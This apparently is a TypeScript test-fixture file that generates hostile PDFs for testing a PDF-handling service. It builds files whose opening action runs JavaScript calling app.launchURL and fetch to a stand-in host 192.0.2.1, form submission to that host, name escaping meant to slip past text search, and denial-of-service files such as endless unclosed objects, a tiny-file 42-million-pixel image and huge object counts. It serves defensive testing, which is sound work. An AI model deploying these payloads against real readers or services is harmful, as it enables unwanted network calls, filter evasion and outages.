import { readFileSync } from 'node:fs'
import { deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, type PDFObject, PDFString } from '@cantoo/pdf-lib'
import opentype from 'opentype.js'

/** The same name with escapes, which a reader understands and a text search does not. */
const escapePdfName = (name: string) =>
  name.replace(/[A-Za-z]/g, (letter) => `#${letter.charCodeAt(0).toString(16)}`)

/**
 * A document with this action on opening; its objects are compressed, as most programs write them.
 */
export async function aPdfWithAction(action: Record<string, string>): Promise<Buffer> {
  const document = await PDFDocument.create()
  document.addPage()
  const texts = Object.entries(action).map(([key, value]) => [key, PDFString.of(value)])
  const { S = '', ...rest } = action
  const values = texts.filter(([key]) => String(key) in rest)
  document.catalog.set(
    PDFName.of('OpenAction'),
    document.context.obj({ S, ...Object.fromEntries(values) }),
  )
  return Buffer.from(await document.save())
}

/** A document with these words that runs scripts and sends requests in every possible place. */
export async function aPdfThatCallsOut(words: string): Promise<Buffer> {
  const document = await PDFDocument.create()
  const page = document.addPage()
  page.drawText(words, { x: 50, y: 700 })
  const { context } = document
  const script = context.obj({
    S: 'JavaScript',
    JS: PDFString.of('app.launchURL("http://192.0.2.1/"); fetch("http://192.0.2.1/")'),
  })
  const fetched = context.obj({ S: 'SubmitForm', F: PDFString.of('http://192.0.2.1/form') })
  const link = context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [0, 0, 600, 800],
    A: context.obj({ S: 'URI', URI: PDFString.of('http://192.0.2.1/link') }),
  })
  document.catalog.set(PDFName.of('OpenAction'), script)
  page.node.set(PDFName.of('AA'), context.obj({ O: fetched }))
  page.node.set(PDFName.of('Annots'), context.obj([link]))
  return Buffer.from(await document.save())
}

export async function aPdfWithAttachment(name: string, content: Buffer): Promise<Buffer> {
  const document = await PDFDocument.create()
  document.addPage()
  await document.attach(content, name)
  return Buffer.from(await document.save())
}

/** A PDF whose key is written with escapes. */
export function withEscapedNames(pdf: Buffer, name: string): Buffer {
  return Buffer.from(
    pdf.toString('latin1').replaceAll(`/${name}`, `/${escapePdfName(name)}`),
    'latin1',
  )
}

/**
 * Half a megabyte of unclosed objects: the library searches the rest of the file for the end of
 * each, which takes minutes.
 */
export const anEndlessPdf = () => Buffer.from(`%PDF-1.7\n${'1 0 obj <\n'.repeat(50_000)}`)

/** Five megabytes of numbers, each of which takes a hundred bytes in memory. */
export const aSwellingPdf = () =>
  Buffer.from(`%PDF-1.7\n1 0 obj [${'1 '.repeat(2_600_000)}]\nendobj\n`)

const FONT_PATH = 'node_modules/pdfjs-dist/standard_fonts/LiberationSans-Regular.ttf'

/** A page with these words in this font, which is not embedded or only partly. */
async function aPdfInFont(
  show: string,
  font: (document: PDFDocument) => PDFObject,
): Promise<Buffer> {
  const document = await PDFDocument.create()
  const page = document.addPage()
  page.node.setFontDictionary(PDFName.of('F1'), document.context.register(font(document)))
  const content = `BT /F1 48 Tf 40 700 Td ${show} Tj ET`
  page.node.set(PDFName.of('Contents'), document.context.register(document.context.stream(content)))
  return Buffer.from(await document.save())
}

/** Ten characters, each of which the character map turns into a letter and this many spaces. */
export async function aPdfOfExpandingCharacters(spaces: number): Promise<Buffer> {
  const expanded = Buffer.from(`x${' '.repeat(spaces)}`, 'utf16le')
    .swap16()
    .toString('hex')
  const lines = Array.from({ length: 10 }, (_, index) => `<${index + 41}> <${expanded}>`)
  const table = `/CIDInit /ProcSet findresource begin begincmap
    1 begincodespacerange <00> <ff> endcodespacerange
    10 beginbfchar ${lines.join('\n')} endbfchar endcmap end`
  return aPdfInFont('(ABCDEFGHI)', ({ context }) =>
    context.obj({
      Type: 'Font',
      Subtype: 'Type1',
      BaseFont: 'Helvetica',
      ToUnicode: context.register(context.flateStream(table)),
    }),
  )
}

/** A PDF in Arial, which it does not embed and which this computer may lack. */
export const aPdfInMissingFont = (words: string) =>
  aPdfInFont(`(${words})`, ({ context }) =>
    context.obj({
      Type: 'Font',
      Subtype: 'TrueType',
      BaseFont: 'Arial',
      Encoding: 'WinAnsiEncoding',
    }),
  )

/** As programs in Asia write: characters are mapped by a table that the document only names. */
export async function aPdfByCharacterTable(words: string): Promise<Buffer> {
  const bytes = readFileSync(FONT_PATH)
  const font = opentype.parse(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.length))
  return aPdfInFont(
    `<${Buffer.from(words, 'utf16le').swap16().toString('hex')}>`,
    ({ context }) => {
      // The first characters of the collection are ASCII, from the space on.
      const map = Buffer.alloc(2 * 96)
      for (let index = 1; index < 96; index++) {
        map.writeUInt16BE(font.charToGlyphIndex(String.fromCharCode(0x1f + index)), index * 2)
      }
      const descriptor = context.obj({
        Type: 'FontDescriptor',
        FontName: 'AAAAAA+LiberationSans',
        Flags: 4,
        FontBBox: [-543, -303, 1301, 979],
        ItalicAngle: 0,
        Ascent: 905,
        Descent: -212,
        CapHeight: 729,
        StemV: 80,
        FontFile2: context.register(context.flateStream(bytes)),
      })
      const cidFont = context.obj({
        Type: 'Font',
        Subtype: 'CIDFontType2',
        BaseFont: 'AAAAAA+LiberationSans',
        CIDSystemInfo: context.obj({
          Registry: PDFString.of('Adobe'),
          Ordering: PDFString.of('Japan1'),
          Supplement: 6,
        }),
        DW: 600,
        FontDescriptor: context.register(descriptor),
        CIDToGIDMap: context.register(context.flateStream(map)),
      })
      return context.obj({
        Type: 'Font',
        Subtype: 'Type0',
        BaseFont: 'AAAAAA+LiberationSans',
        Encoding: 'UniJIS-UTF16-H',
        DescendantFonts: [context.register(cidFont)],
      })
    },
  )
}

/** An image of 42 million pixels in a few hundred bytes, alone on its page. */
export async function aPdfWithHugePicture(): Promise<Buffer> {
  const document = await PDFDocument.create()
  const page = document.addPage()
  const { context } = document
  const [width, height] = [7_000, 6_000]
  const picture = context.stream(deflateSync(Buffer.alloc((width / 8) * height)), {
    Type: 'XObject',
    Subtype: 'Image',
    Width: width,
    Height: height,
    ColorSpace: 'DeviceGray',
    BitsPerComponent: 1,
    Filter: 'FlateDecode',
  })
  page.node.setXObject(PDFName.of('P'), context.register(picture))
  const content = context.stream('q 500 0 0 400 40 300 cm /P Do Q')
  page.node.set(PDFName.of('Contents'), context.register(content))
  return Buffer.from(await document.save())
}

const TAGGED_PDF_PAGES = 70

/**
 * A report of 70 pages as Word exports it: with this many elements in the structure tree for screen
 * readers, each an object of its own.
 */
export function aTaggedPdf(elements: number): Buffer {
  const page = (index: number) => 4 + index
  const element = (index: number) => page(TAGGED_PDF_PAGES) + index
  const indices = Array.from({ length: elements }, (_, index) => index)
  const pages = Array.from({ length: TAGGED_PDF_PAGES }, (_, index) => index)
  const references = (numbers: number[]) => numbers.map((number) => `${number} 0 R`).join(' ')
  return pdfOfObjects([
    '<</Type/Catalog/Pages 2 0 R/StructTreeRoot 3 0 R/MarkInfo<</Marked true>>>>',
    `<</Type/Pages/Count ${pages.length}/Kids[${references(pages.map(page))}]/MediaBox[0 0 595 842]>>`,
    `<</Type/StructTreeRoot/K[${references(indices.map(element))}]>>`,
    ...pages.map(() => '<</Type/Page/Parent 2 0 R>>'),
    ...indices.map((index) => `<</S/P/P 3 0 R/K ${index % 100}>>`),
  ])
}

/** A valid PDF with this many empty dictionaries: a million are 4 MB and need 300 MB of memory. */
export const aHeavyPdf = (dictionaries = 1_000_000) =>
  pdfOfObjects([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Count 1/Kids[3 0 R]/MediaBox[0 0 595 842]>>',
    '<</Type/Page/Parent 2 0 R>>',
    `[${'<<>>'.repeat(dictionaries)}]`,
  ])

/** These objects, numbered from 1, with their cross-reference table. */
function pdfOfObjects(objects: string[]): Buffer {
  const offsets: number[] = []
  let text = '%PDF-1.7\n'
  for (const [index, object] of objects.entries()) {
    offsets.push(text.length)
    text += `${index + 1} 0 obj${object}endobj\n`
  }
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const trailer = `trailer<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${text.length}\n%%EOF\n`
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`
  return Buffer.from(`${text}${table}${trailer}`, 'latin1')
}
